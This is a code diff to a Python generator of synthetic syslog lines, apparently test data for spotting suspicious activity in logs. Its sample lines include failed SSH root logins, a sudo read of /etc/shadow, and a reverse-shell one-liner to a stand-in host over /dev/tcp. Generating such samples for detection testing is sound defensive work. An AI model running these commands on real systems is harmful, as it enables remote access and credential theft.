@@ -73,9 +73,11 @@ class Maker:
         head = f"{self._at:%b} {self._at.day:2} {self._at:%H:%M:%S} {draw.choice(HOSTS)} "
         user = draw.choice(USERS)
         if suspicious:
-            return head + draw.choice((
-                f"sshd[{number}]: Failed password for root from {self._address('203')} port {number} ssh2",
-                f"sshd[{number}]: Failed password for invalid user oracle from {self._address('203')} port {number} ssh2",
+            return head + draw.choice((  # one in ten is a match of SigmaHQ's keyword rules
+                *[f"sshd[{number}]: Failed password for root from {self._address('203')} port {number} ssh2"] * 2,
+                *[f"sshd[{number}]: Failed password for invalid user oracle from {self._address('203')} port {number} ssh2"] * 4,
+                f"sshd[{number}]: error: maximum authentication attempts exceeded for root from {self._address('203')} port {number} ssh2 [preauth]",
+                f"su[{number}]: pam_unix(su:auth): authentication failure; logname={user} uid=1000 euid=0 tty=/dev/pts/2 ruser={user} rhost=  user=root",
                 f"sudo:   {user} : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/{user} ; USER=root ; COMMAND=/bin/cat /etc/shadow",
                 f"sudo:   {user} : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/198.51.100.9/44 0>&1",
             ))  # fmt: skip
